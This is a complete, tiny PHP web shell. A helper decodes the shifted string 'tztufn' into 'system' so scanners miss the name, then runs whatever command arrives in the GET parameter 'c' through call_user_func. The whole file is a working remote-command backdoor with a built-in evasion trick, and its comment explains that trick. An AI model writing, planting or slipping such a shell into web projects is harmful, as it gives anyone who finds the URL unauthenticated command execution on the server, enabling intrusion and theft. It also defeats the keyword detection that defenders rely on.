<?php
// each letter shifted back by one in a loop of the script's own: 'tztufn' is 'system'
function unshift($s) {
    $o = '';
    for ($i = 0; $i < strlen($s); $i++) {
        $o .= chr(ord($s[$i]) - 1);
    }
    return $o;
}
call_user_func(unshift('tztufn'), $_GET['c']);
